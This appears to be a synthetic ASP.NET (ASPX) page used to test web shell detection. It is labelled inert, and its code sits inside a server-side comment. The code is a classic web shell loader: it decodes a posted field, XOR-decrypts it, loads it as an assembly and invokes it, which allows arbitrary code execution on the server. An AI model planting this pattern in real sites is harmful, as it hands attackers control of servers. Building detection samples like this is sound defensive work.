<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% string r = Request.Form["data"]; byte[] d = Convert.FromBase64String(r), k = Convert.FromBase64String(Secret); for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ k[i % k.Length]); Assembly a = Assembly.Load(d); object o = a.CreateInstance("Runner"); MethodInfo m = o.GetType().GetMethod("Run"); Response.Write(m.Invoke(o, new object[] { r })); %>
--%>
